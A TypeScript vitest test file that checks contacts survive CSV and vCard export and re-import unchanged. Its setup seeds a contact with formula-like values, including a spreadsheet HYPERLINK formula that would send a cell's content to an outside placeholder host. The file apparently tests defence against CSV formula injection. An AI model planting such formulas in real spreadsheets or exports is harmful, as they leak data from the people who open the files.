import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { load } from '../../api/demo/loading.ts';
import { writeHouse } from '../../api/demo/write-house.ts';
import { cast, jan } from '../cast.ts';
import { openWorld, type World } from '../world.ts';
import { Counter } from './counter.ts';
import { ImportOffice } from './import/office.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let from: World;
let counter: Counter;
/** Houses with nobody in them, for whom comes. */
const houses: World[] = [];
beforeAll(async () => {
  from = await openWorld({ seed: 'cast', jobs: true });
  counter = new Counter(from);
  // What spreadsheets have taken for formulas, and what is no formula and begins like one.
  await counter.sql(`UPDATE contact SET organisation = $2, street = $3, given_name = $4, family_name = $5 WHERE id = $1`, [
    cast.nora.id,
    `=HYPERLINK("http://example.org/?"&A1;"click")`,
    `'-1, +2; =3 ::: "@4"`,
    `'=Nora`,
    `"+Peeters", ‘t`,
  ]);
});
afterAll(async () => {
  for (const world of [from, ...houses]) await world?.close();
});

async function emptyHouse(): Promise<ImportOffice> {
  const world = await openWorld({ seed: 'empty', jobs: true });
  houses.push(world);
  await load(world.db, world.keys, new Date(), 1, writeHouse);
  return new ImportOffice(world, jan);
}

const text = 'givenName familyName organisation street postalCode city country language email otherEmails phone mobile birthDate';
const all = `${text} salutation source customFields(keys: ["custom.membershipNumber"]) { text }`;
const people = async (desk: Counter | ImportOffice, fields: string, told = (node: Record<string, any>): object => node) => {
  const { data, errors } = await desk.contacts(jan, 'membership', { first: 100 }, `nodes { ${fields} }`);
  expect(errors).toEqual([]);
  return (data['contacts'].nodes as Record<string, any>[]).map(node => JSON.stringify(told(node))).toSorted();
};
/** A card knows a person's addresses, and not which of them we call the other ones. */
const inCard = ({ email, otherEmails, ...rest }: Record<string, any>) => ({
  ...rest,
  emails: [email, ...(otherEmails ?? [])].filter(Boolean),
});

describe('what went out comes in as it was', () => {
  test.each(['SEMICOLON', 'COMMA', 'TAB'] as const)('as CSV with %s', async delimiter => {
    const { parts } = await counter.export(jan, 'membership', { delimiter, language: delimiter === 'COMMA' ? 'en' : 'nl' });
    const office = await emptyHouse();
    await office.bringIn(Buffer.from(parts['contacts.csv']!));
    const before = await people(counter, all);
    expect(before.length).toBeGreaterThan(8);
    expect(await people(office, all)).toEqual(before);
  });

  test('as cards, of what a card carries', async () => {
    const { parts } = await counter.export(jan, 'membership', { format: 'VCARD', delimiter: undefined });
    const office = await emptyHouse();
    await office.bringIn(Buffer.from(parts['contacts.vcf']!));
    expect(await people(office, text, inCard)).toEqual(await people(counter, text, inCard));
  });
});
